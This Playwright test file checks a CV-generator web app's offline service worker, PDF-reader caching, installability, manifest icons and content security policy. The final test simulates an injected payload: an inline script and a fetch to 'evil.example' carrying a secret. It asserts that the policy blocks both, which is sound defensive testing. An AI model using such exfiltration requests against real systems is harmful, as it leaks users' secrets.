import { chromium, expect, test, type BrowserContext, type Page } from '@playwright/test';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

async function waitForServiceWorker(page: Page) {
	await page.evaluate(async () => {
		await navigator.serviceWorker.ready;
	});
	// The first load is not controlled yet; clients.claim() takes over, a reload makes it certain.
	await page.reload();
	await expect
		.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null))
		.toBe(true);
}

async function goOffline(context: BrowserContext) {
	await context.setOffline(true);
}

test('the app starts, opens a session and saves edits with no network after one visit', async ({
	page,
	context
}) => {
	await page.goto('./');
	await page.getByRole('button', { name: 'Load example' }).click();
	await expect(page.getByLabel('Full name')).toHaveValue('Zoë Łukasiewicz-Müller');
	const sessionUrl = page.url();
	await waitForServiceWorker(page);

	await goOffline(context);
	await page.goto('./');
	await expect(page.getByRole('status').filter({ hasText: 'Offline' })).toBeVisible();
	await page.getByRole('link', { name: 'Lead Data Engineer – Acme Mobility' }).click();
	await expect(page.getByLabel('Full name')).toHaveValue('Zoë Łukasiewicz-Müller');

	await page.getByLabel('Full name').fill('Zoë Offline');
	await expect(page.getByRole('status').filter({ hasText: /^Saved$/ })).toBeVisible();
	await page.reload();
	await expect(page.getByLabel('Full name')).toHaveValue('Zoë Offline');
	await page.keyboard.press('Control+z');
	await expect(page.getByLabel('Full name')).toHaveValue('Zoë Łukasiewicz-Müller');

	// A deep link typed while offline boots from the cached SPA shell.
	const jobUrl = new URL(sessionUrl);
	jobUrl.searchParams.set('tab', 'job');
	await page.goto(jobUrl.toString());
	await expect(page.getByLabel('Main job description')).toHaveValue(/Acme Mobility/);
	await context.setOffline(false);
});

test('the PDF reader is kept for offline use once it has read a file, and is not installed before', async ({
	page,
	context
}) => {
	const pdf = 'tests/fixtures/cv-import/files/teacher-sidebar.pdf';
	const chooseCv = () => page.getByRole('button', { name: /^Choose your CV/ }).setInputFiles(pdf);
	const review = page.getByRole('heading', { name: 'Review your imported CV' });
	await page.goto('./');
	await waitForServiceWorker(page);

	// Installing the app fetched the app, not the reader: offline, a PDF cannot be read yet.
	await goOffline(context);
	await chooseCv();
	await expect(page.getByText(/The PDF and Word reader could not be fetched/)).toBeVisible();

	// Back online, trying again reads it; and the reader stays: offline after a reload too.
	await context.setOffline(false);
	await chooseCv();
	await expect(review).toBeVisible();
	await goOffline(context);
	await page.reload();
	await chooseCv();
	await expect(review).toBeVisible();
	await expect(page.getByText(/could not be fetched/)).toHaveCount(0);
	await context.setOffline(false);
});

test('Chromium finds the app installable and every manifest icon resolves', async ({
	request,
	baseURL,
	launchOptions
}) => {
	// Installability is never reported for incognito windows, which plain contexts are.
	const profile = await mkdtemp(join(tmpdir(), 'aicvgen-install-'));
	const context = await chromium.launchPersistentContext(profile, launchOptions);
	try {
		const page = await context.newPage();
		await page.goto(`${baseURL}/`);
		await page.evaluate(async () => {
			await navigator.serviceWorker.ready;
		});
		const cdp = await context.newCDPSession(page);
		const { installabilityErrors } = await cdp.send('Page.getInstallabilityErrors');
		expect(installabilityErrors).toEqual([]);
	} finally {
		await context.close();
		await rm(profile, { recursive: true, force: true });
	}

	const manifest = (await (await request.get('manifest.webmanifest')).json()) as {
		name: string;
		short_name: string;
		start_url: string;
		scope: string;
		display: string;
		theme_color: string;
		background_color: string;
		icons: { src: string; sizes: string; purpose: string }[];
	};
	expect(manifest).toMatchObject({
		short_name: 'aicvgen',
		display: 'standalone',
		start_url: './',
		scope: './'
	});
	expect(manifest.name).toContain('aicvgen');
	expect(manifest.theme_color).toMatch(/^#/);
	expect(manifest.background_color).toMatch(/^#/);
	expect(manifest.icons.map((icon) => icon.sizes)).toEqual(
		expect.arrayContaining(['192x192', '512x512'])
	);
	expect(manifest.icons.some((icon) => icon.purpose === 'maskable')).toBe(true);
	for (const icon of manifest.icons) {
		const response = await request.get(icon.src);
		expect(response.status(), icon.src).toBe(200);
		expect(response.headers()['content-type']).toBe('image/png');
	}
});

test('the content security policy blocks inline scripts and other origins, the app runs clean', async ({
	page,
	request
}) => {
	const html = await (await request.get('./')).text();
	const policy = /http-equiv="content-security-policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
	expect(policy).toContain("default-src 'self'");
	expect(policy).toContain("object-src 'none'");
	expect(policy).toContain("base-uri 'self'");
	expect(policy).toContain("form-action 'none'");
	expect(policy).toMatch(/connect-src 'self' https:\/\/api\.groq\.com/);
	expect(policy).not.toContain("'unsafe-eval'");
	expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);

	const violations: string[] = [];
	await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', (event) => {
			(window as unknown as { reportViolation: (text: string) => void }).reportViolation(
				`${event.violatedDirective} ${event.blockedURI}`
			);
		});
	});

	// The app's own flows: list, example, every tab.
	await page.goto('./');
	await page.getByRole('button', { name: 'Load example' }).click();
	for (const tab of ['Job', 'Tailor', 'CV', 'Profile']) {
		await page.getByRole('tab', { name: tab }).click();
		await expect(page.getByRole('tab', { name: tab })).toHaveAttribute('aria-selected', 'true');
	}
	await page.getByRole('link', { name: 'Settings' }).click();
	await page.waitForLoadState('networkidle');
	expect(violations).toEqual([]);

	// What an injected payload would try: an inline script and a request to another origin.
	const outcome = await page.evaluate(async () => {
		const script = document.createElement('script');
		script.textContent = 'window.__inlineRan = true';
		document.body.append(script);
		let fetchBlocked = false;
		try {
			await fetch('https://evil.example/?k=secret');
		} catch {
			fetchBlocked = true;
		}
		return {
			inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
			fetchBlocked
		};
	});
	expect(outcome).toEqual({ inlineRan: false, fetchBlocked: true });
	await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
	expect(violations.some((text) => text.startsWith('script-src'))).toBe(true);
	expect(
		violations.some((text) => text.startsWith('connect-src') && text.includes('evil.example'))
	).toBe(true);
});
